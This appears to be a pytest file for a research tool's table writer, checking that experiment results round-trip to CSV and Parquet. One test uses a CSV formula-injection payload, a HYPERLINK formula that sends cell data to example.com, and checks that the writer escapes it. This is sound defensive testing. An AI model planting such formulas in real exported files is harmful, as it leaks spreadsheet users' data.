"""The table of all cells: what is written is what is read."""

import csv
import json

import pyarrow.csv
import pyarrow.parquet
import pytest
from known_cells import cell, square

from anchorlens.extras.sweep import SweepResult, write_table

HOSTILE = 'a "quoted", text\nof two lines; <b>=1+1</b> \ud800'


@pytest.fixture
def cells():
    return [*square(), cell("failed", gamma=0.9, error=HOSTILE), cell("2", gamma=1, n_samples=600)]


def written(value):
    """A value as a table holds it."""
    if isinstance(value, str):
        return value.replace("\ud800", "?")
    return json.dumps(value, sort_keys=True) if isinstance(value, dict | list) else value


def test_parquet_reads_back_equal(cells, tmp_path):
    path = tmp_path / "cells.parquet"
    write_table(cells, path)
    rows = pyarrow.parquet.read_table(path).to_pylist()
    expected = [{name: written(value) for name, value in one.row().items()} for one in cells]
    assert [{name: value for name, value in row.items() if value is not None} for row in rows] == [
        {name: value for name, value in row.items() if value is not None} for row in expected
    ]
    assert [row["gamma"] for row in rows][-2:] == [0.9, 1] and rows[0]["id"] == 0.1
    assert rows[0]["cell"] == cells[0].id and json.loads(rows[0]["anchors"])["1"] == 5
    assert rows[7]["id"] is None and rows[7]["status"] == "failed"  # the square's one that failed


def test_an_integer_beyond_64_bits_is_text(tmp_path):
    write_table([cell("1", lr=1), cell("1", lr=10**29)], tmp_path / "cells.parquet")
    rows = pyarrow.parquet.read_table(tmp_path / "cells.parquet").to_pylist()
    assert [json.loads(row["lr"]) for row in rows] == [1, 10**29]


def test_csv_reads_back_equal(cells, tmp_path):
    path = tmp_path / "cells.csv"
    write_table(cells, path)
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == len(cells)
    for row, one in zip(rows, cells, strict=True):
        for name, value in one.row().items():
            value = written(value)
            if isinstance(value, bool):
                assert row[name] == str(value).lower()
            elif isinstance(value, int | float):
                assert float(row[name]) == value
            else:
                assert row[name] == (value or "")


def test_both_hold_the_same_columns_of_the_same_kinds(cells, tmp_path):
    tables = {}
    for suffix in ("csv", "parquet"):
        write_table(cells, tmp_path / f"cells.{suffix}")
    options = pyarrow.csv.ParseOptions(newlines_in_values=True)
    tables = (
        pyarrow.csv.read_csv(tmp_path / "cells.csv", parse_options=options),
        pyarrow.parquet.read_table(tmp_path / "cells.parquet"),
    )
    assert tables[0].column_names == tables[1].column_names
    for name in ("gamma", "ood", "stable_rank.w_q", "train_error"):
        assert tables[0][name].to_pylist() == tables[1][name].to_pylist()


def test_numbers_and_texts_in_one_column_become_json(tmp_path):
    cells = [cell("3", device="cpu"), cell("3", seed=1)]
    object.__setattr__(cells[0], "fields", {**cells[0].fields, "threads": "two"})
    object.__setattr__(cells[1], "fields", {**cells[1].fields, "threads": 2})
    write_table(cells, tmp_path / "cells.parquet")
    column = pyarrow.parquet.read_table(tmp_path / "cells.parquet")["threads"].to_pylist()
    assert column == ['"two"', "2"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_spreadsheet_sees_a_formula_in_csv(tmp_path, start):
    text = f'{start}HYPERLINK("http://example.com?x="&A1,"open")'
    bad = cell("failed", error=text)
    object.__setattr__(bad, "fields", {**bad.fields, text: text, "d": "-1.5e3"})
    for suffix in ("csv", "parquet"):
        write_table([bad], tmp_path / f"cells.{suffix}")
    with (tmp_path / "cells.csv").open(newline="", encoding="utf-8") as file:
        names, row = list(csv.reader(file))
    assert text not in [*names, *row] and [*names, *row].count(f"'{text}") == 3
    assert row[names.index("d")] == "-1.5e3"
    assert pyarrow.parquet.read_table(tmp_path / "cells.parquet")["error"].to_pylist() == [text]


def test_a_bad_path_is_refused_and_what_was_there_stays(cells, tmp_path):
    with pytest.raises(ValueError, match=r"must end in \.csv or \.parquet, got 'cells.xlsx'"):
        write_table(cells, tmp_path / "cells.xlsx")
    with pytest.raises(ValueError, match="must be in a folder that exists"):
        write_table(cells, tmp_path / "none" / "cells.csv")
    (tmp_path / "cells.csv").write_text("before")
    with pytest.raises(ValueError, match="at least one row"):
        write_table([], tmp_path / "cells.csv")
    assert (tmp_path / "cells.csv").read_text() == "before" and len(list(tmp_path.iterdir())) == 1


def test_a_frame_has_the_rows_of_the_table(cells, tmp_path):
    frame = SweepResult(tmp_path, tuple(cells)).to_frame()
    assert frame.index.tolist() == [one.id for one in cells] and frame.index.name == "cell"
    assert frame["gamma"].tolist() == [one.fields["gamma"] for one in cells]
    assert frame["status"].tolist() == [one.status for one in cells]
    with pytest.raises(ValueError, match="a table must have at least one row, got none"):
        SweepResult(tmp_path, ()).to_frame()
